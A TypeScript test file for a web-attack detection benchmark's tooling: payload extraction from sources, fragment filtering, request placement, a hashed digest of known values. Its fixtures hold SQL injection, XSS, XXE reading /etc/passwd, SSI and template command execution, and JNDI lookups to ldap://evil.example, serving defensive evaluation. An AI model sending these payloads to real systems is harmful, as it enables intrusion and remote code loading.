import t from 'tap'
import { apiExampleText, captured, capturedPhp, codeLiterals, csvField, csvPick, emailsOf, fromBase64, openapiExamples, stringLiterals, ftwParts, ftwValues, jsonFields, jsonItems, jsonRecords, jsonStrings, parseCsic, sectionOf, stripNotes, xmlElement, yamlItems } from './eval/build.ts'
import { FRESH_PARTS, FRESH_SOURCES, SOURCES } from './eval/sources.ts'
import { decodeKnown, encodeKnown, extendKnown, readKnown } from './eval/known.ts'
import { KNOWN_FILE, KNOWN_PARTS } from './eval/build.ts'
import { MEASURE_ONLY, asUrl, backupProbes, fragmentReason, hash32, partOf, placeApiBody, placeApiExample, placeAttack, placeBenign, queryValue, urlDecodedOnce } from './eval/place.ts'

// The public evaluation's rules (test/insight/eval/): no network and no snapshot needed here.

t.test('the split: deterministic, about half and half, and not tied to where a value is placed', async (t) => {
  t.equal(partOf('sqli', "' or 1=1--"), partOf('sqli', "' or 1=1--"))
  const values = Array.from({ length: 4000 }, (_, i) => `value ${i} ${i * 7919}`)
  const tune = values.filter((v) => partOf('prose', v) === 'tune')
  t.ok(tune.length > 1850 && tune.length < 2150, `${tune.length} of 4000 in the tuning half`)
  // each placement gets values of both halves (a hash whose low bits are a parity would tie them)
  const byWhere = new Map<string, Set<string>>()
  for (const v of values) {
    const where = placeBenign('prose', v).where
    byWhere.set(where, (byWhere.get(where) ?? new Set()).add(partOf('prose', v)))
  }
  for (const [where, parts] of byWhere) t.equal(parts.size, 2, `${where} holds both halves`)
  t.not(hash32('a'), hash32('b'))
})

t.test('fragments are decided on the payload alone', async (t) => {
  t.equal(fragmentReason('sqli', "'"), 'shorter than 3 characters')
  t.equal(fragmentReason('sqli', "'))"), 'no letter or digit')
  t.equal(fragmentReason('sqli', '"\'`--'), 'no letter or digit')
  t.equal(fragmentReason('sqli', "' or ''-'"), null)
  t.equal(fragmentReason('sqli', ' ORDER BY 18-- '), null)
  t.equal(fragmentReason('ldapi', 'admin*'), 'no filter syntax')
  t.equal(fragmentReason('ldapi', '*)(&'), null)
  t.equal(fragmentReason('xss', 'onmouseover'), 'no markup, quote, call or scheme')
  t.equal(fragmentReason('jndi', '${upper:<text>}'), 'an unfilled placeholder')
  t.equal(fragmentReason('jndi', '${${::-${::-$${::-j}}}}'), 'a lookup with no protocol (no JNDI)')
  t.equal(fragmentReason('crlf', '%0d%0a'), 'shorter than 3 characters')
  t.equal(fragmentReason('ldapi', "x' or name()='username' or 'x'='y"), 'no filter syntax', 'an XPath condition')
  t.equal(fragmentReason('crlf', '%0d%0aSet-Cookie:x=1'), null)
  t.equal(fragmentReason('rce', ';{cmd}'), 'an unfilled placeholder')
  t.equal(fragmentReason('xxe', '&xxe;'), 'no DTD, entity or XInclude')
})

t.test('fragments, second round: declarations, stylesheet resources, prose parentheses, shell variables, template probes in command lists', async (t) => {
  // markup that runs nothing: a comment, an XML or namespace declaration, a DOCTYPE's opening line, CSS url(), prose in parentheses
  for (const p of ['<!-- IE 6-8 -->', '<div id="66"><?xml version="1.0"?>', '<image xmlns:xlink="http://www.w3.org/1999/xlink">', '<div id="67"><!DOCTYPE x [', '<path style="marker-start:url(test4.svg#a)"/>', 'Chrome (Any character \\x01 to \\x20)', '</style>//["\'`-->]]>]</div>']) {
    t.equal(fragmentReason('xss', p), 'markup with nothing that runs', p)
  }
  // what they wrap still runs
  for (const p of ['<!--[if gte IE 4]><SCRIPT>alert(1)</SCRIPT><![endif]-->', '<x xmlns="><iframe onload=alert(97)">', "<%<!--'%><script>alert(1);</script -->", 'alert`1`', '<div style="background:url(javascript:alert(1))">']) {
    t.equal(fragmentReason('xss', p), null, p)
  }
  t.equal(fragmentReason('rce', '${IFS}'), 'a shell variable alone')
  t.equal(fragmentReason('rce', '$ cat /etc/passwd'), 'a shell transcript line (a prompt)')
  t.equal(fragmentReason('rce', 'command1 | command2'), 'an unfilled placeholder')
  t.equal(fragmentReason('rce', '{{person.name}}'), 'a template expression running no command (template injection)')
  t.equal(fragmentReason('rce', `{{this.push "return require('child_process').execSync('ls');"}}`), null)
  t.equal(fragmentReason('rce', '{{ system("id") }}'), null)
})

t.test('placement: encoded as a client encodes, pre-encoded payloads sent as written', async (t) => {
  t.equal(queryValue("' or 1=1"), '\'%20or%201%3D1')
  t.equal(queryValue('%2e%2e%2fetc'), '%2e%2e%2fetc', 'already encoded')
  t.equal(asUrl('/a b/<x>#y'), '/a%20b/%3Cx%3E%23y')
  const jndi = placeAttack('jndi', '${jndi:ldap://x.example/a}')
  t.ok(jndi.where.startsWith('header:') || jndi.where.startsWith('cookie:') || jndi.where.startsWith('query:') || jndi.where.startsWith('json:') || jndi.where.startsWith('form:'), jndi.where)
  t.equal(placeAttack('nosqli', '[$ne]=1').query, 'user[$ne]=1', 'an operator suffix goes after a parameter name')
  t.equal(placeAttack('nosqli', '{"username": {"$ne": null}}').where, 'json-raw')
  t.equal(placeAttack('xxe', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>').where, 'xml-raw')
  const crlf = placeAttack('jndi', '${jnd${upper:ı}:ldap://x.example/a}')
  t.notMatch(crlf.where, /^header:/, 'a value a header cannot carry goes elsewhere')
  t.same(backupProbes('/admin.php').slice(0, 2), ['/admin.php.bak', '/admin.php~'])
})

t.test('the labelled data set: raw requests with headers and form bodies', async (t) => {
  const text = 'GET http://localhost:8080/tienda1/index.jsp?a=1 HTTP/1.1\nHost: localhost:8080\nCookie: JSESSIONID=X\n\n\nPOST http://localhost:8080/tienda1/miembros/editar.jsp HTTP/1.1\nHost: localhost:8080\nContent-Type: application/x-www-form-urlencoded\nContent-Length: 7\n\nmodo=a%27\n\n'
  const rs = parseCsic(text)
  t.equal(rs.length, 2)
  t.same(rs[0], { method: 'GET', path: '/tienda1/index.jsp', query: 'a=1', headers: { host: 'localhost:8080', cookie: 'JSESSIONID=X' }, body: null })
  t.equal(rs[1]!.body, 'modo=a%27')
  t.equal(rs[1]!.headers['content-type'], 'application/x-www-form-urlencoded')
})

t.test('the fresh part: its own sources, never the halves\' ones, and never split by hash', async (t) => {
  const halves = new Set(SOURCES.map((s) => s.repo))
  t.ok(FRESH_SOURCES.length > 0)
  for (const s of FRESH_SOURCES) {
    t.notOk(halves.has(s.repo), `${s.repo} is not a source of the halves`)
    t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
    t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
  }
  // the split by hash gives the halves only: the fresh part is whatever its sources give (build.ts)
  const parts = new Set(Array.from({ length: 2000 }, (_, i) => partOf('sqli', `' or ${i}=${i}--`)))
  t.same([...parts].sort(), ['held-out', 'tune'])
})

t.test('each later fresh part: sources none of the earlier parts uses, pinned, licences recorded; spent once measured', async (t) => {
  t.equal(FRESH_PARTS[0].sources, FRESH_SOURCES, 'the fresh part comes first')
  t.same(FRESH_PARTS.map((p) => p.part), FRESH_PARTS.map((_, i) => (i === 0 ? 'fresh' : `fresh${i + 1}`)), 'the fresh parts are numbered in their order')
  const parts = FRESH_PARTS.slice(1).map((p) => [p.name.replace(/ fresh part$/, '').toLowerCase(), p.sources] as const)
  const earlier = new Set([...SOURCES, ...FRESH_SOURCES].map((s) => s.repo))
  for (const [name, sources] of parts) {
    t.ok(sources.length > 0, `the ${name} fresh part has sources`)
    for (const s of sources) {
      t.notOk(earlier.has(s.repo), `${s.repo} (${name}) is not a source of an earlier part`)
      t.match(s.commit, /^[0-9a-f]{40}$/, `${s.repo} is pinned by commit`)
      t.ok(s.licence.length > 0, `${s.repo} has its licence recorded`)
    }
    t.equal(new Set(sources.map((s) => s.repo)).size, sources.length, `each source of the ${name} fresh part listed once`)
    for (const s of sources) earlier.add(s.repo)
  }
  t.same(MEASURE_ONLY, ['held-out'], 'the held-out half\'s misses and false positives are never shown: every fresh part measured once (the hundred-and-fifty-fifth at 5dd0650) is spent')
})

t.test('the fresh sources are cut as written: notes, string literals, JSON values', async (t) => {
  t.same(stripNotes([';       # Semicolon - execute after', 'http://localhost → http://%6c%6f%63%61%6c%68%6f%73%74', '• /%0D%0ASet-Cookie:a=b (check the response)', 'Payload: *)(uid=*', 'asd||sleep 5|| >> Middle of two parameter.', '$ cat hosts.txt | httpx', "' or 1=1-- -"]), [
    ';',
    'http://localhost',
    '/%0D%0ASet-Cookie:a=b (check the response)',
    '*)(uid=*',
    'asd||sleep 5||',
    "' or 1=1-- -",
  ])
  t.same(stripNotes(['; echo x >> /tmp/out']), ['; echo x >> /tmp/out'], 'a shell redirection is kept')
  t.same(codeLiterals(`payloads = [r'%0d%0aSet-Cookie:a=b', "<!--#exec cmd=\\"id\\" -->", \`{{7*7}}\`]`), ['%0d%0aSet-Cookie:a=b', '<!--#exec cmd="id" -->', '{{7*7}}'])
  t.same(jsonStrings('{"description":"A list","names":["Ada Lovelace","Al",{"first":"Alan Turing"}]}', 3), ['Ada Lovelace', 'Alan Turing'])
  t.same(jsonStrings('not json', 1), [])
})

t.test('the second fresh sources are cut as written: WAF test cases in JSON and YAML', async (t) => {
  // a test case's first zone present; a form's value under its generated name; a multi-line field gives its lines
  const json = JSON.stringify({ payload: [{ ARGS: 'param%RND%=%27%20or%201%3D1--', BODY: 'x', ENCODE: 'Base64', BLOCKED: true }, { URL: '/.git/index', BLOCKED: true }, { ARGS: 'url=//evil.example&next=1' }, { code: '<a>\n<b onclick=x()>' }] })
  t.same(jsonFields(json, ['URL', 'ARGS', 'code'], '%RND%|^url$'), ['%27%20or%201%3D1--', '/.git/index', '//evil.example', '<a>', '<b onclick=x()>'])
  t.same(jsonFields(json, ['ARGS']), ['param%RND%=%27%20or%201%3D1--', 'url=//evil.example&next=1'], 'no param: the field as written')
  t.same(jsonFields('not json', ['URL']), [])
  const yaml = [
    'payload:',
    "  - '%0d%0aSet-Cookie:crlf=injection'",
    '  - "a\\tb \\"q\\""',
    "  - it''s plain # a comment",
    '  - !!str |',
    '    <?xml version="1.0"?>',
    '  - "continued\\',
    '    on the next line"',
    'encoder:',
    '  - URL',
    'http:',
    '  - method: GET',
    '    payloads:',
    '      escape:',
    '        - "%0a"',
    '    fuzzing:',
    '      - part: query',
  ].join('\n')
  t.same(yamlItems(yaml, 'payload'), ['%0d%0aSet-Cookie:crlf=injection', 'a\tb "q"', "it''s plain"])
  t.same(yamlItems(yaml, 'payloads'), ['%0a'], 'nested keys under the key, up to the next key as shallow')
  t.ok(yamlItems(yaml).includes('URL'), 'without a key: every one-line item')
})

t.test('a WAF\'s regression tests: the values of the requests expected to be detected, not the harness\'s', async (t) => {
  const ftw = [
    'rule_id: 944150',
    'tests:',
    '  - test_id: 1',
    '    stages:',
    '      - input:',
    '          headers:',
    '            Host: localhost',
    '            User-Agent: "OWASP CRS test agent ${jndi:ldap://evil.example/a}"',
    '            Cookie: a=1; b=%27or%201',
    '          method: GET',
    '          uri: "/get?x=%24%7Bjndi%3Aldap%7D&y=2"',
    '        output:',
    '          log:',
    '            expect_ids: [944150]',
    '  - test_id: 2',
    '    stages:',
    '      - input:',
    '          uri: "/post"',
    '          data: "foo=bar;id&z=1"',
    '        output:',
    '          log:',
    '            no_expect_ids: [944150]',
    '  - test_id: 3',
    '    stages:',
    '      - input:',
    '          uri: /post',
    '          data: |',
    '            <x>${jndi:dns://evil.example}</x>',
    '        output:',
    '          log_contains: id "944150"',
  ].join('\n')
  t.same(ftwValues(ftw), ['${jndi:ldap://evil.example/a}', '1', '%27or%201', '/get', '%24%7Bjndi%3Aldap%7D', '2', '/post', '<x>${jndi:dns://evil.example}</x>'])
})

t.test('a value taken encoded from a raw request\'s URL: as written in a URL place, decoded once elsewhere', async (t) => {
  t.equal(urlDecodedOnce('1+OR+%271%27%3D%271', 'query'), "1 OR '1'='1", 'a query value: "+" is a blank')
  t.equal(urlDecodedOnce('/a+b/%2e%2e', 'path'), '/a+b/..', 'a path: "+" is a plus')
  t.equal(urlDecodedOnce('%ff%27', 'query'), "\u00ff'", 'escapes that are no UTF-8: their bytes')
  // the regression tests' URI and form values are encoded; their headers, cookies and other bodies are not
  const ftw = ['tests:', '  - test_id: 1', '    stages:', '      - input:', '          headers:', '            X-A: "%27x"', '          uri: "/a%20b?q=1+OR+%271"', '          data: "c=%3Bid"', '        output:', '          expect_ids: [1]'].join('\n')
  t.same(ftwParts(ftw), [{ value: '%27x' }, { value: '/a%20b', encoded: 'path' }, { value: '1+OR+%271', encoded: 'query' }, { value: '%3Bid', encoded: 'query' }])
  // the same place is chosen as for the value written as it is; only its encoding differs
  const p = 'FOR+%2FL+%25%25G+IN+%281%2C1%2C5%29+DO+echo+%25%25G'
  let json = false
  let query = false
  for (let i = 0; i < 64; i++) {
    const v = `${p}+${i}`
    const plain = placeAttack('rce', v)
    const enc = placeAttack('rce', v, 'query')
    t.equal(enc.where, plain.where)
    if (enc.where.startsWith('json:')) {
      json = true
      t.equal((JSON.parse(enc.body!) as Record<string, string>)[enc.where.slice(5)], `FOR /L %%G IN (1,1,5) DO echo %%G ${i}`, 'decoded once in a JSON field')
    }
    if (enc.where.startsWith('query:')) {
      query = true
      t.ok(enc.query.endsWith(`=${v}`), 'as written in the query')
    }
    if (enc.where.startsWith('header:')) t.notMatch(Object.values(enc.headers).join(' '), /%25%25G/, 'decoded once in a header')
  }
  t.ok(json && query, 'both kinds of place were tried')
})

t.test('the third fresh sources are cut as written: CSV fields, records', async (t) => {
  t.equal(csvField('"000001","","b","/admin/config.php.bak","GET","CODE:200"', 3), '/admin/config.php.bak')
  t.equal(csvField('"1","a ""quoted"" one"', 1), 'a "quoted" one')
  t.equal(csvField('"1"', 3), null)
  t.same(jsonRecords('{"addresses":[{"address1":"1 Main St","city":"Springfield","state":"IL"},{"address1":"2 Elm St","city":""}]}', ['address1', 'city', 'state']), ['1 Main St, Springfield, IL'])
  t.same(jsonRecords('not json', ['a']), [])
  t.same(jsonItems('{"posts":[{"id":1,"title":"a"},{"id":2,"title":"b"}],"users":[{"id":1,"name":"Ann"}],"meta":{"n":3}}'), ['{"id":1,"title":"a"}', '{"id":2,"title":"b"}', '{"id":1,"name":"Ann"}'], 'each object of the top-level arrays a document of its own')
  t.same(jsonItems('{"posts":[{"id":1}],"users":[{"id":2}]}', 'users'), ['{"id":2}'], 'only the array under the key given')
  t.same(jsonItems('[{"a":[1,2]}, 3, "x", null]'), ['{"a":[1,2]}'], 'a document that is an array: its objects; numbers, strings and nulls are no documents')
  t.same(jsonItems('not json'), [])
})

t.test('the seventeenth fresh sources are cut as written: an AUTHORS file\'s e-mail addresses', async (t) => {
  t.same(emailsOf('# Authors ordered by first contribution.\nAnn Lee <ann.lee@example.com>\nBo <bo+dev@mail.example.org>\nAnn Lee <ann.lee@example.com>\nno address here\n'), ['ann.lee@example.com', 'bo+dev@mail.example.org'], 'each address once, the names and headings left out')
  t.same(emailsOf('user@localhost and @handle'), [], 'no domain with a dot, no address')
  t.same(stringLiterals('first_names = ("Ann", \'Bo\', "{{first_name}} {{last_name}}", "female")\nx = "O\\\'Brien"'), ['Ann', 'Bo', "O'Brien"], 'a module\'s literals, its formats and gender words left out, escapes undone')
})

t.test('the eighteenth fresh sources are cut as written: an OpenAPI description\'s examples under their names, its request bodies\' as documents', async (t) => {
  const v3 = [
    'openapi: 3.0.3',
    'paths:',
    '  /mail/{id}:',
    '    parameters:',
    '      - { name: id, in: path, schema: { type: string, example: msg_01H } }',
    '    get:',
    '      parameters:',
    '        - { name: page, in: query, example: 12 }',
    '        - $ref: "#/components/parameters/Tenant"',
    '        - { name: session, in: cookie, examples: { a: { value: abc123 }, b: { $ref: "#/components/examples/Sess" } } }',
    '        - { name: note, in: header, example: "two\\nlines" }',
    '        - { name: empty, in: query, example: "" }',
    '        - { name: list, in: query, example: [1, 2] }',
    '        - { name: upload, in: formData, example: x }',
    '    post:',
    '      requestBody:',
    '        content:',
    '          application/json:',
    '            schema: { $ref: "#/components/schemas/Mail" }',
    '            example: { to: ann@example.com, body: "<% body %>" }',
    '            examples: { short: { value: { to: bo@example.org } }, scalar: { value: hello } }',
    '          application/xml:',
    '            example: { ignored: true }',
    'components:',
    '  parameters:',
    '    Tenant: { name: X-Tenant-Id, in: header, schema: { $ref: "#/components/schemas/TenantId" } }',
    '  examples:',
    '    Sess: { value: def456 }',
    '  schemas:',
    '    TenantId: { type: string, example: t-42 }',
    '    Mail:',
    '      allOf:',
    '        - { $ref: "#/components/schemas/Base" }',
    '      properties:',
    '        to: { type: string, example: ann@example.com }',
    '        draft: { type: boolean, example: false }',
    '        nested: { type: object, example: { a: 1 } }',
    '    Base:',
    '      properties:',
    '        template: { type: string, example: "<% body %>" }',
    '        loop: { $ref: "#/components/schemas/Loop" }',
    '    Loop: { $ref: "#/components/schemas/Loop" }',
    '',
  ].join('\n')
  const d3 = openapiExamples(v3)
  t.same(d3.pairs, [
    { where: 'path', name: 'id', value: 'msg_01H' },
    { where: 'query', name: 'page', value: 12 },
    { where: 'header', name: 'X-Tenant-Id', value: 't-42' },
    { where: 'cookie', name: 'session', value: 'abc123' },
    { where: 'cookie', name: 'session', value: 'def456' },
    { where: 'path', name: 'id', value: 'msg_01H' },
    { where: 'json', name: 'to', value: 'ann@example.com' },
    { where: 'json', name: 'draft', value: false },
    { where: 'json', name: 'template', value: '<% body %>' },
  ], 'scalar examples under their names, refs followed (a cycle gives nothing); a multi-line header, an empty value, a list, a form field and a nested object left out')
  t.same(d3.documents, ['{"to":"ann@example.com","body":"<% body %>"}', '{"to":"bo@example.org"}'], 'a JSON body\'s examples that are documents; a scalar one and an XML body\'s left out')
  t.same(d3.pairs.map(apiExampleText).slice(0, 3), ['id=msg_01H', 'page=12', 'X-Tenant-Id=t-42'], 'an example\'s text: name=value')

  const v2 = JSON.stringify({
    swagger: '2.0',
    paths: {
      '/items': {
        get: { parameters: [{ name: 'q', in: 'query', 'x-example': 'red shoes' }, { $ref: '#/parameters/Limit' }, { $ref: 'other.json#/Limit' }] },
        put: { parameters: [{ name: 'body', in: 'body', schema: { $ref: '#/definitions/Item', example: { sku: 'A-1' } } }] },
      },
    },
    parameters: { Limit: { name: 'limit', in: 'query', type: 'integer', default: 20, example: 50 } },
    definitions: { Item: { type: 'object', example: { sku: 'B-2', qty: 3 }, properties: { sku: { type: 'string', example: 'B-2' }, long: { type: 'string', example: 'x'.repeat(1001) } } } },
  })
  const d2 = openapiExamples(v2)
  t.same(d2.pairs, [
    { where: 'query', name: 'q', value: 'red shoes' },
    { where: 'query', name: 'limit', value: 50 },
    { where: 'json', name: 'sku', value: 'B-2' },
  ], 'OpenAPI 2: x-example, a parameter by reference (another file\'s gives nothing), a body parameter\'s schema; a value over 1,000 characters left out')
  t.same(d2.documents, ['{"sku":"B-2","qty":3}'], 'a body parameter\'s schema example (the referenced schema\'s)')
  t.same(openapiExamples('not: [valid'), { pairs: [], documents: [] })
  t.same(openapiExamples('{"openapi":"3.1.0"}'), { pairs: [], documents: [] })
})

t.test('an API description\'s example is placed as a client sends it, under its real name and alone', async (t) => {
  const q = placeApiExample({ where: 'query', name: 'page[size]', value: 12 })!
  t.same([q.where, q.path, q.query, q.body], ['query:page[size]', '/api/v1/items', 'page[size]=12', null], 'a query parameter, encoded, brackets in its name as written')
  t.equal(placeApiExample({ where: 'query', name: 'to', value: 'ann+news@example.com' })!.query, 'to=ann%2Bnews%40example.com')
  const p = placeApiExample({ where: 'path', name: 'id', value: 'a/b c' })!
  t.same([p.where, p.path, p.query], ['path:id', '/api/v1/items/a%2Fb%20c', ''], 'a path parameter: the last segment, encoded')
  const h = placeApiExample({ where: 'header', name: 'X-Request-Id', value: 'req_7f3' })!
  t.same([h.where, h.headers['x-request-id'], h.headers.host, h.body], ['header:x-request-id', 'req_7f3', 'shop.example.com', null], 'a header, its name in lower case, the base headers kept')
  t.equal(placeApiExample({ where: 'header', name: 'Authorization', value: 'Bearer abc' })!.headers.authorization, 'Bearer abc', 'an authorization header is sent')
  for (const name of ['Host', 'Content-Length', 'Connection', 'Transfer-Encoding', 'Cookie']) t.equal(placeApiExample({ where: 'header', name, value: 'x' }), null, `${name}: no parameter a client sets`)
  t.equal(placeApiExample({ where: 'header', name: 'X-Name', value: 'Zoë ✓' }), null, 'a header value Node refuses')
  t.equal(placeApiExample({ where: 'header', name: 'bad name', value: 'x' }), null, 'a header name that is no token')
  const c = placeApiExample({ where: 'cookie', name: 'session', value: 'abc 123' })!
  t.same([c.where, c.headers.cookie], ['cookie:session', 'session=abc%20123'], 'a cookie alone, encoded where a cookie cannot carry it')
  t.equal(placeApiExample({ where: 'cookie', name: 'lang', value: 'en-GB' })!.headers.cookie, 'lang=en-GB')
  const j = placeApiExample({ where: 'json', name: 'count', value: 12 })!
  t.same([j.where, j.headers['content-type'], j.body, j.query], ['json:count', 'application/json', '{"count":12}', ''], 'a body field alone, its JSON type kept')
  t.equal(placeApiExample({ where: 'json', name: 'draft', value: false })!.body, '{"draft":false}')
  t.equal(placeApiExample({ where: 'json', name: 'template', value: '<% body %>' })!.body, '{"template":"<% body %>"}')
  const b = placeApiBody('{"to":"ann@example.com"}')!
  t.same([b.where, b.headers['content-type'], b.body], ['json-raw', 'application/json', '{"to":"ann@example.com"}'], 'a request body\'s example: the body as written')
})

t.test('the fifth fresh sources are cut as written: a labelled data set\'s attacks only', async (t) => {
  const doc = JSON.stringify([{ text: '{"user": {"$ne": ""}}', label: 1 }, { text: 'db.users.find({"user": "bob"})', label: 0 }, { text: "' || 1==1", label: 1 }, { text: 'no label' }])
  t.same(jsonFields(doc, ['text'], undefined, ['label', 1]), ['{"user": {"$ne": ""}}', "' || 1==1"])
  t.same(jsonFields(doc, ['text'], undefined, ['label', 0]), ['db.users.find({"user": "bob"})'])
  t.same(jsonFields(doc, ['text']), ['{"user": {"$ne": ""}}', 'db.users.find({"user": "bob"})', "' || 1==1", 'no label'], 'no condition: every object\'s field')
})

t.test('the fifth fresh sources are cut as written: a catalogue\'s section, the payload an entry holds', async (t) => {
  const php = ['$P = [', '    "XSS" => [', '        ["id"=>"x1","payload"=>\'<svg onload=alert(1)>\',"tags"=>["svg"]],', '    ],', '    "LDAP" => [',
    '        ["id"=>"l1","payload"=>\'*)(uid=*))(|(uid=*\',"tags"=>[]],', '        ["id"=>"l2","payload"=>"admin)(|(cn=\\"x\\"))","tags"=>[]],', '    ],', '    "SSI" => [', '        ["id"=>"s1","payload"=>\'<!--#printenv -->\'],', '];'].join('\n')
  const section: [string, string] = ['^\\s*"LDAP" => \\[', '^\\s*(?:"[\\w ]+" => \\[|\\];)']
  const ldap = sectionOf(php, section)
  t.equal(ldap.split('\n').length, 3, 'the lines after the section\'s opening, up to the next section')
  const entry = `"payload"=>(?:'((?:[^'\\\\]|\\\\.)*)'|"((?:[^"\\\\]|\\\\.)*)")`
  t.same(ldap.split('\n').map((l) => captured(l, entry)), ['*)(uid=*))(|(uid=*', 'admin)(|(cn="x"))', null], 'single- or double-quoted, escapes undone; a line with no entry gives none')
  t.equal(sectionOf(php, ['^\\s*"SSI" => \\[', '^\\s*"[\\w ]+" => \\[']).trim(), '["id"=>"s1","payload"=>\'<!--#printenv -->\'],\n];', 'the last section runs to the end when no next one matches')
  t.equal(sectionOf(php, ['^"SQLi" =>', '^\\]']), '', 'no such section: nothing')
  t.equal(captured('["id"=>"x"]', entry), null)
})

t.test('the sixth fresh sources are cut as written: a labelled CSV data set\'s rows of one label, PHP literals', async (t) => {
  const where = [2, /^sqli$/] as const
  t.equal(csvPick('"1 or 1=1--","10","sqli","anom"', 0, where), '1 or 1=1--')
  t.equal(csvPick('"campello, el","12","norm","norm"', 0, where), null, 'a row of another label')
  t.equal(csvPick('"a ""b""","5","sqli","anom"', 0, where), 'a "b"')
  t.equal(csvPick('"x","1"', 0), 'x', 'no condition: every row')
  t.equal(csvPick('"x","1"', 0, [3, /^anom$/]), null, 'a row without the field')
  const lit = `^\\s*\\$(?:exploits\\[\\]|test\\d+)\\s*=\\s*(?:'((?:[^'\\\\]|\\\\.)*)'|"((?:[^"\\\\]|\\\\.)*)")\\s*;\\s*$`
  t.equal(capturedPhp("        $test7 = 'C:\\boot.ini';", lit), 'C:\\boot.ini', 'a single-quoted literal keeps its backslashes')
  t.equal(capturedPhp("        $exploits[] = 'it\\'s \\\\ x';", lit), "it's \\ x", 'but for an escaped quote or backslash')
  t.equal(capturedPhp('        $exploits[] = "*)(uid=*))(|(uid=*\\n";', lit), '*)(uid=*))(|(uid=*\n', 'a double-quoted one undoes its escapes')
  t.equal(capturedPhp("        $exploits[] = 'continued", lit), null, 'a literal running over lines is none')
  t.equal(capturedPhp('        $this->_testForPlainEvent($exploits);', lit), null)
})

t.test('the fourth fresh sources are cut as written: XML elements, base64 literals', async (t) => {
  t.equal(xmlElement('            <payload>AND [RANDNUM]=[RANDNUM]</payload>', 'payload'), 'AND [RANDNUM]=[RANDNUM]')
  t.equal(xmlElement('<payload>1 &lt; 2 AND &apos;a&apos;=&quot;a&quot; &amp;&amp; x</payload>', 'payload'), `1 < 2 AND 'a'="a" && x`, 'the predefined entities undone')
  t.equal(xmlElement('<vector>AND [INFERENCE]</vector>', 'payload'), null, 'another element')
  t.equal(xmlElement('<payload></payload>', 'payload'), '')
  t.equal(xmlElement('        Sub-tag: <payload>', 'payload'), null, 'a comment naming the element')
  t.equal(fromBase64(Buffer.from('${jndi:ldap://x/a}').toString('base64')), '${jndi:ldap://x/a}')
  t.equal(fromBase64('not base64 at all'), null)
  t.equal(fromBase64(Buffer.from([0xff, 0xfe, 0x00, 0x80, 0x81, 0x82]).toString('base64')), null, 'bytes that are no UTF-8 text')
  t.equal(fromBase64('abc'), null, 'too short to be one')
})

t.test('the eighth fresh sources are cut as written: a JSON field whole, a Python entry\'s payload', async (t) => {
  const json = JSON.stringify([{ class: 'xxe', payload: '<?xml version="1.0"?>\r\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' }, { class: 'xss', payload: '<svg onload=alert(1)>' }, { class: 'xxe', payload: '  ' }])
  t.same(jsonFields(json, ['payload'], undefined, ['class', 'xxe'], true), ['<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'], 'whole: a multi-line value is one payload')
  t.same(jsonFields(json, ['payload'], undefined, ['class', 'xxe']), ['<?xml version="1.0"?>', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'], 'without it: a line each')
  const entry = '"payload":\\s*"((?:[^"\\\\]|\\\\.)*)"'
  t.equal(captured(`        "payload": "<!--#exec cmd='ls'-->",`, entry), "<!--#exec cmd='ls'-->")
  t.equal(captured('    {"payload": "<a href=\\"javascript:alert(1)\\">", "description": "x"},', entry), '<a href="javascript:alert(1)">')
  t.equal(captured('        "payload": """<?xml version="1.0"?>', entry), '', 'a triple-quoted document gives nothing')
})

t.test('the digest of known values: membership without the texts, a header that is checked, the parts it covers', async (t) => {
  const values = ["' or 1=1--", '<script>alert(1)</script>', 'Ada Lovelace', '']
  const bytes = encodeKnown(['halves', 'fresh'], [...values, values[0]!])
  const known = decodeKnown(bytes)
  t.same(known.parts, ['halves', 'fresh'])
  t.equal(known.size, 4, 'a repeated value is one key')
  for (const v of values) t.ok(known.has(v), JSON.stringify(v))
  t.notOk(known.has("' or 1=2--"))
  t.notOk(known.has('ada lovelace'), 'exact text, case included')
  t.notOk(bytes.includes(Buffer.from('Lovelace')), 'no value\'s text is stored')
  t.throws(() => decodeKnown(Buffer.from('no header')), /no header line/)
  t.throws(() => decodeKnown(Buffer.concat([bytes.subarray(0, bytes.length - 1)])), /4 keys announced, 23 bytes follow/)
  t.throws(() => decodeKnown(Buffer.from('{"parts":"halves","keys":0,"keyBytes":6}\n')), /header/)
  // a part folded in after its measurement: the earlier keys kept, its own added, its name last
  const extended = decodeKnown(extendKnown(bytes, 'fresh2', ['Grace Hopper', 'Ada Lovelace']))
  t.same(extended.parts, ['halves', 'fresh', 'fresh2'])
  t.equal(extended.size, 5)
  for (const v of [...values, 'Grace Hopper']) t.ok(extended.has(v), `${JSON.stringify(v)} after folding`)
  t.throws(() => extendKnown(bytes, 'fresh', ['x']), /fresh is already in the digest/)
  // the committed digest holds every part but those still measure-only (each built --alone from its own snapshots)
  const committed = readKnown(KNOWN_FILE)
  t.equal(committed.parts.join(), KNOWN_PARTS.filter((p) => !(MEASURE_ONLY as readonly string[]).includes(p)).join())
  t.ok(committed.size > 100_000, `${committed.size} keys`)
})
